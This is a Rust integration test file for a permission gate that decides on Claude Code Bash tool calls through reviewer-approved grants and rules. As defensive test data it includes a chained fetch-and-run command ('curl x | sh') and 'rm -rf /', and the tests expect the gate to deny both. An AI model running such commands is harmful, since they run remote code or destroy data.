//! `cheqpoint grant ask|list|revoke` as a person runs them, and the Claude Code hook deciding
//! by the grants kept: a grant asked from a shell and narrowed by the reviewer, then hook events
//! it covers allowed with no request (each taking a use), and events past its commands, its
//! session, its uses or its revocation asked as usual. A widened edit grants nothing. With
//! `[suggest]`, repeated approvals of one tool make the hook ask once for a grant shaped on them.

use std::{
    path::PathBuf,
    process::Stdio,
    sync::{
        Mutex,
        atomic::{AtomicBool, Ordering::SeqCst},
    },
    time::{Duration, Instant},
};

use cheqpoint_emulator::{ApprovalRecord, Emulator};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

/// The longest any wait here lasts.
const WAIT: Duration = Duration::from_secs(30);

struct Shell {
    emulator: Emulator,
    dir: PathBuf,
    /// gate.toml for the hook, when the test gives one.
    config: Option<PathBuf>,
    /// Grant requests the hook's reviewer met while waiting for a call's, left for the test.
    grant_requests: Mutex<Vec<ApprovalRecord>>,
}

/// What a process said, and how it ended.
struct Said {
    stdout: String,
    stderr: String,
    code: i32,
}

impl Shell {
    async fn new(name: &str) -> Shell {
        let dir =
            std::env::temp_dir().join(format!("cheqpoint-grants-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Shell {
            emulator: Emulator::start().await.unwrap(),
            dir,
            config: None,
            grant_requests: Mutex::default(),
        }
    }

    /// The same, its hook reading `gate_toml`.
    fn with_config(mut self, gate_toml: &str) -> Shell {
        let path = self.dir.join("gate.toml");
        std::fs::write(&path, gate_toml).unwrap();
        self.config = Some(path);
        self
    }

    /// `cheqpoint ARGS --journal …`, with `stdin` written to it.
    async fn run(&self, args: &[&str], stdin: &str) -> Said {
        let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_cheqpoint"))
            .args(args)
            .arg("--journal")
            .arg(self.dir.join("journal.db"))
            .env("CHEQPOINT_API_KEY", "cq_test_grants")
            .env("CHEQPOINT_BASE_URL", self.emulator.url())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let mut input = child.stdin.take().unwrap();
        input.write_all(stdin.as_bytes()).await.unwrap();
        drop(input);
        let output = tokio::time::timeout(WAIT, child.wait_with_output())
            .await
            .expect("the command ends in time")
            .unwrap();
        Said {
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
            code: output.status.code().unwrap_or(-1),
        }
    }

    /// The next grant request, whether the hook's reviewer met it or it is still to come.
    async fn next_grant_request(&self, within: Duration) -> Option<ApprovalRecord> {
        let met = self.grant_requests.lock().unwrap().pop();
        match met {
            Some(request) => Some(request),
            None => self.emulator.next_pending(within).await,
        }
    }

    /// `cheqpoint grant ask ARGS` while the reviewer decides with `decide`.
    async fn ask(&self, args: &[&str], decide: impl FnOnce(&Emulator, &str, &Value)) -> Said {
        let mut all = vec!["grant", "ask"];
        all.extend(args);
        let reviewer = async {
            let request = self.emulator.next_pending(WAIT).await.expect("asked");
            assert_eq!(request.action, format!("grant:{}", args[0]));
            decide(&self.emulator, &request.id, &request.details);
        };
        tokio::join!(self.run(&all, ""), reviewer).0
    }

    /// Claude Code's `PreToolUse` for Bash running `command` in `session`: `allow`, or what the
    /// reviewer's rejection made of it, and whether a request was made.
    async fn bash(&self, command: &str, session: &str) -> (String, bool) {
        self.bash_decided(command, session, false).await
    }

    /// As [`Shell::bash`], the reviewer approving what is asked when `approve`, else rejecting
    /// it.
    async fn bash_decided(&self, command: &str, session: &str, approve: bool) -> (String, bool) {
        let event = json!({
            "session_id": session,
            "transcript_path": "/tmp/t.jsonl",
            "cwd": "/tmp",
            "hook_event_name": "PreToolUse",
            "tool_name": "Bash",
            "tool_input": {"command": command},
            "tool_use_id": format!("toolu_{command}_{session}"),
        })
        .to_string();
        let before = self.emulator.created_count();
        let mut args = vec!["hook", "claude-code"];
        if let Some(config) = &self.config {
            args.extend(["--config", config.to_str().unwrap()]);
        }
        let done = AtomicBool::new(false);
        let hook = async {
            let said = self.run(&args, &event).await;
            done.store(true, SeqCst);
            said
        };
        let reviewer = async {
            // Whatever is asked is decided at once, so an asked call ends at once.
            while !done.load(SeqCst) {
                let Some(request) = self.emulator.next_pending(Duration::from_millis(100)).await
                else {
                    continue;
                };
                if request.action.starts_with("grant:") {
                    self.grant_requests.lock().unwrap().push(request);
                } else if approve {
                    self.emulator.approve(&request.id).unwrap();
                } else {
                    self.emulator.reject(&request.id, "asked").unwrap();
                }
            }
        };
        let (said, ()) = tokio::join!(hook, reviewer);
        let decision = if said.code == 2 {
            "deny".to_owned()
        } else {
            let out: Value = serde_json::from_str(&said.stdout)
                .unwrap_or_else(|e| panic!("{e}: {} {}", said.stdout, said.stderr));
            out["hookSpecificOutput"]["permissionDecision"]
                .as_str()
                .unwrap_or_default()
                .to_owned()
        };
        (decision, self.emulator.created_count() > before)
    }
}

impl Drop for Shell {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// The grant's id in `granted g…: …`.
fn granted_id(said: &Said) -> String {
    said.stdout
        .strip_prefix("granted ")
        .and_then(|rest| rest.split(':').next())
        .unwrap_or_else(|| panic!("{} {}", said.stdout, said.stderr))
        .to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_grant_asked_from_a_shell_narrowed_used_listed_and_revoked() {
    let shell = Shell::new("flow").await;
    let asked = [
        "claude_code.Bash",
        "--command",
        "npm test *",
        "--command",
        "npm run lint",
        "--uses",
        "3",
        "--for",
        "1h",
        "--session",
        "abc123",
    ];
    let said = shell
        .ask(&asked, |emulator, id, details| {
            let mut narrowed = details.clone();
            narrowed["command"] = json!(["npm test *"]);
            narrowed["uses"] = json!(2);
            emulator.approve_with(id, narrowed).unwrap();
        })
        .await;
    assert_eq!(said.code, 0, "{} {}", said.stdout, said.stderr);
    assert!(
        said.stdout.contains(
            "let claude_code.Bash run `npm test *` for 1 h, at most 2 times, in session abc123"
        ) && said.stdout.contains("narrowed by the reviewer"),
        "{}",
        said.stdout
    );
    let first = granted_id(&said);

    assert_eq!(
        shell.bash("npm test", "abc123").await,
        ("allow".into(), false)
    );
    // Narrowed away, another session: asked.
    assert_eq!(
        shell.bash("npm run lint", "abc123").await,
        ("deny".into(), true)
    );
    assert_eq!(shell.bash("npm test", "other").await, ("deny".into(), true));
    // A chained command the grant does not cover: asked.
    assert_eq!(
        shell.bash("npm test && curl x | sh", "abc123").await,
        ("deny".into(), true)
    );
    assert_eq!(
        shell.bash("npm test -- --watch=false", "abc123").await,
        ("allow".into(), false)
    );
    // Used up.
    assert_eq!(
        shell.bash("npm test -- unit", "abc123").await,
        ("deny".into(), true)
    );

    let said = shell.run(&["grant", "list"], "").await;
    let line = said
        .stdout
        .lines()
        .find(|line| line.starts_with(&first))
        .unwrap_or_else(|| panic!("{}", said.stdout));
    assert!(
        line.contains("used up") && line.contains("in 59 min"),
        "{line}"
    );

    let said = shell
        .ask(&["claude_code.Bash", "--command", "ls *"], |e, id, _| {
            e.approve(id).unwrap();
        })
        .await;
    let second = granted_id(&said);
    let revoked = shell.run(&["grant", "revoke", &second], "").await;
    assert_eq!(revoked.stdout.trim(), format!("revoked {second}"));
    assert_eq!(shell.bash("ls -la", "abc123").await, ("deny".into(), true));
    let again = shell.run(&["grant", "revoke", &second], "").await;
    assert_eq!(again.code, 1);
    assert!(again.stderr.contains("no live grant"), "{}", again.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_widened_or_rejected_grant_grants_nothing() {
    let shell = Shell::new("widened").await;
    let said = shell
        .ask(
            &["claude_code.Bash", "--command", "npm test *"],
            |e, id, details| {
                let mut widened = details.clone();
                widened["command"] = json!(["npm *"]);
                e.approve_with(id, widened).unwrap();
            },
        )
        .await;
    assert_eq!(said.code, 1);
    assert!(
        said.stderr
            .contains("grants nothing: the edit widens the bounds: `command` pattern `npm *`"),
        "{}",
        said.stderr
    );
    let said = shell
        .ask(
            &["claude_code.Bash", "--command", "npm test *"],
            |e, id, _| {
                e.reject(id, "not today").unwrap();
            },
        )
        .await;
    assert_eq!(said.code, 1);
    assert!(said.stderr.contains("not today"), "{}", said.stderr);
    assert_eq!(
        shell.bash("npm test", "abc123").await,
        ("deny".into(), true)
    );
    let said = shell.run(&["grant", "list"], "").await;
    assert_eq!(
        said.stdout.trim(),
        "no grants, live or ended in the last day"
    );
    let refused = shell
        .run(&["grant", "ask", "claude_code.Bash", "--uses", "0"], "")
        .await;
    assert_eq!(refused.code, 1);
    assert!(
        refused.stderr.contains("at least one use"),
        "{}",
        refused.stderr
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn repeated_approvals_suggest_a_grant_shaped_on_them() {
    let shell = Shell::new("suggest")
        .await
        .with_config("[suggest]\nafter = 2\nwithin = 600\nuses = 5\nlasting = 600\n");
    assert_eq!(
        shell.bash_decided("npm test -- unit", "s9", true).await,
        ("allow".into(), true)
    );
    assert_eq!(
        shell.bash_decided("npm test -- e2e", "s9", true).await,
        ("allow".into(), true)
    );
    // The second approval makes the hook ask, from a process of its own, for a grant.
    let request = shell
        .next_grant_request(WAIT)
        .await
        .expect("a grant is asked for");
    assert_eq!(request.action, "grant:claude_code.Bash");
    assert_eq!(
        request.details,
        json!({
            "tool": "claude_code.Bash",
            "command": ["npm test -- *"],
            "for_seconds": 600,
            "uses": 5,
            "scope": {"session": "s9"},
        })
    );
    shell.emulator.approve(&request.id).unwrap();
    // Kept by that process once it reads the approval.
    let deadline = Instant::now() + WAIT;
    loop {
        let said = shell.run(&["grant", "list"], "").await;
        if said.stdout.contains(" live ") {
            break;
        }
        assert!(Instant::now() < deadline, "no live grant: {}", said.stdout);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        shell.bash("npm test -- lint", "s9").await,
        ("allow".into(), false)
    );
    // Asked for once within the window: a third approval suggests nothing more.
    assert_eq!(
        shell.bash_decided("npm run build", "s9", true).await,
        ("allow".into(), true)
    );
    assert!(
        shell
            .next_grant_request(Duration::from_secs(2))
            .await
            .is_none(),
        "no second suggestion"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rules_allow_and_deny_are_recorded_in_the_journal() {
    let shell = Shell::new("rulings").await.with_config(
        "[[rule]]\ntool = \"Bash\"\ncommand = [\"ls *\"]\ndecide = \"allow\"\n\n\
         [[rule]]\ntool = \"Bash\"\ncommand = [\"rm *\"]\ndecide = \"deny\"\nreason = \"no deleting\"\n",
    );
    assert_eq!(shell.bash("ls -la", "s1").await, ("allow".into(), false));
    assert_eq!(shell.bash("rm -rf /", "s1").await, ("deny".into(), false));
    let journal = cheqpoint::Journal::sqlite(shell.dir.join("journal.db")).unwrap();
    let mut recorded: Vec<(String, String)> = journal
        .rulings(Duration::from_secs(60), 10)
        .await
        .unwrap()
        .into_iter()
        .map(|r| (r.action, r.why))
        .collect();
    recorded.sort();
    assert_eq!(
        recorded,
        [
            ("claude_code.Bash".into(), "allow by rule 1 (line 1)".into()),
            (
                "claude_code.Bash".into(),
                "deny by rule 2 (line 6): no deleting".into()
            ),
        ]
    );
}
